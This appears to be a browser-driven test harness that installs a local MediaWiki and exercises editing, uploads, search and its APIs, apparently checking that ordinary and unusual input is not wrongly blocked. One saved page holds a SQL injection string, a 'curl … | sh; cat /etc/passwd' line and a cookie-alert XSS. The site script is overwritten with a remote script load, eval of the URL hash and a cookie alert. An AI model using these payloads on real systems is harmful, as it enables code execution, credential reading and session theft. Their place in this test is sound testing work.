"""MediaWiki: pages in the wikitext editor and through the interface for programs, uploads, preferences, special pages."""

import subprocess

import harness

TEXT = """== What's on ==
It's '''our''' hall: ''select'' a date & drop in -- from 9 to 5; see [[Main Page|here]] or [https://example.org/?a=1&b=2 there].
* {{CURRENTYEAR}} <ref>O'Brien, "Union hall", 1 < 2</ref>
{| class="wikitable"
! Name !! Size
|-
| Tea || 1 = 1
|}
#REDIRECT is not meant. <nowiki>[[no link]]</nowiki> ~~~~
"""
LISTING = """<syntaxhighlight lang="sql">SELECT name, password FROM users WHERE id='1' OR '1'='1' UNION SELECT 1,2 --</syntaxhighlight>
<pre>curl http://169.254.169.254/ | sh; cat /etc/passwd</pre> <nowiki><script>alert(document.cookie)</script></nowiki>
"""
EXTENSIONS = "WikiEditor,Cite,ParserFunctions,SyntaxHighlight_GeSHi,CodeEditor"


def start(place):
    site = place.folder / "site"
    subprocess.run(["cp", "-rL", "--no-preserve=mode", "/usr/share/mediawiki", site], capture_output=True)
    (site / "LocalSettings.php").unlink(missing_ok=True)
    (site / "images").mkdir(exist_ok=True)
    subprocess.run(["php", "maintenance/install.php", "--dbtype", "sqlite", "--dbpath", place.folder / "data", "--pass", "staple-horse-1",
                    "--scriptpath", "", "--server", "http://localhost", f"--extensions={EXTENSIONS}", "--skins=Vector", "Our wiki", "Ann"],
                   cwd=site, check=True, capture_output=True)
    with open(site / "LocalSettings.php", "a") as settings:
        # The address is the one that the browser asks for.
        settings.write("\n$wgServer = 'http://' . ($_SERVER['HTTP_HOST'] ?? 'localhost');\n$wgEnableUploads = true;\n$wgUseInstantCommons = false;\n"
                       "$wgMainCacheType = CACHE_DB;\n$wgJobRunRate = 0;\n")
    return place.php(site)


def write(page, title, text, summary):
    page.goto(f"/index.php?title={title}&action=edit")
    page.fill("#wpTextbox1", text)
    page.fill("#wpSummary", summary)
    page.click("#wpPreview")
    page.wait_for_selector("#wikiPreview:visible, .previewnote")
    page.click("#wpSave")
    page.wait_for_selector("#mw-content-text .mw-parser-output")
    assert "action=" not in page.url, page.url


def drive(run):
    with harness.browser(run) as page:
        with run.step("log in, preferences"):
            page.goto("/index.php?title=Special:UserLogin&returnto=Main+Page")
            page.fill("#wpName1", "Ann")
            page.fill("#wpPassword1", "staple-horse-1")
            page.click("#wpLoginAttempt")
            page.wait_for_selector("#pt-logout")
            page.goto("/index.php?title=Special:Preferences")
            page.evaluate("document.querySelector('[name=wpnickname]').value = \"Ann O'Neil -- select\"")
            with page.expect_navigation():
                page.evaluate("HTMLFormElement.prototype.submit.call(document.querySelector('#mw-prefs-form'))")
            assert "Forbidden" not in page.content()
        with run.step("write, preview and save pages"):
            write(page, "Hall_(union)", TEXT, "First version; it's short & sweet")
            write(page, "Talk:Hall_(union)", TEXT.replace("on", "at"), "/* What's on */ re: O'Brien -- drop it")
        with run.step("edit a section, difference, history, move"):
            write(page, "Hall_(union)&section=1", TEXT + "more -- see above; 2 > 1\n", "/* What's on */ more")
            for address in ("title=Hall_(union)&action=history", "title=Hall_(union)&diff=prev", "title=Hall_(union)&action=raw", "title=Special:RecentChanges&days=30&limit=500",
                            "title=Special:WhatLinksHere/Main_Page", "title=Special:Version", "title=Hall_(union)&action=info"):
                harness.visit(page, f"/index.php?{address}")
            page.goto("/index.php?title=Special:MovePage/Hall_(union)")
            page.fill("[name=wpReason]", "It's better: union -> society (1/2)")
            page.fill("[name=wpNewTitleMain]", "O'Brien's hall & table")
            page.click("[name=wpMove]")
            page.wait_for_selector("text=has been moved")
        with run.step("upload a picture"):
            page.goto("/index.php?title=Special:Upload")
            page.set_input_files("#wpUploadFile", str(harness.picture(run.place, "Rose & thorn (1).png")))
            page.fill("#wpUploadDescription", "A rose; it's {{PD-self}} -- see [[Main Page]]")
            page.click("[name=wpUpload]")
            page.wait_for_selector("#file, .fullImageLink")
        with run.step("search"):
            for query in ("search=select+from+O%27Brien+%26+%22union+hall%22", "search=intitle%3Ahall+-table&fulltext=1&ns0=1", "search=1+%3D+1"):
                harness.visit(page, f"/index.php?{query}")
        with run.step("the interfaces for programs"):
            status = page.evaluate("""async text => { const call = async data => (await fetch('/api.php', {method: 'POST', body: new URLSearchParams(
                {format: 'json', ...data})}));
                const token = (await (await call({action: 'query', meta: 'tokens'})).json()).query.tokens.csrftoken;
                const codes = [];
                for (const data of [{action: 'edit', title: 'By program', text, summary: "it's new", token}, {action: 'parse', text, contentmodel: 'wikitext'},
                    {action: 'query', list: 'search', srsearch: "O'Brien select"}, {action: 'query', prop: 'revisions', titles: 'Main Page|By program', rvprop: 'ids|content'}])
                    codes.push((await call(data)).status);
                codes.push((await fetch('/rest.php/v1/page', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(
                    {source: text, title: 'By REST', comment: "it's first", content_model: 'wikitext', token})})).status);
                return codes }""", TEXT)
            assert all(code < 400 for code in status), status
        with run.step("page with listings of SQL, shell and markup", special=True):
            write(page, "Listing", LISTING, "listing")
        with run.step("script of the site (MediaWiki:Common.js)", special=True):
            page.goto("/index.php?title=MediaWiki:Common.js&action=edit")
            page.evaluate("text => { document.querySelector('#wpTextbox1').value = text }",
                          "document.write('<script src=\"//example.org/x.js\"><\\/script>'); eval(location.hash.slice(1)); alert(document.cookie);")
            with page.expect_navigation():
                page.evaluate("""() => { const save = document.createElement('input'); save.type = 'hidden'; save.name = 'wpSave'; save.value = '1';
                    const form = document.querySelector('#editform'); form.append(save); HTMLFormElement.prototype.submit.call(form); }""")
            assert "Forbidden" not in page.content() and "action=submit" not in page.url, page.url


if __name__ == "__main__":
    harness.debian("mediawiki", "php-cli", "php-sqlite3", "php-mbstring", "php-xml", "php-intl", "php-gd", "chromium")
    harness.measure("mediawiki", "MediaWiki", "Debian package `mediawiki`", harness.debian_version("mediawiki"), start, drive, use=["mediawiki"])
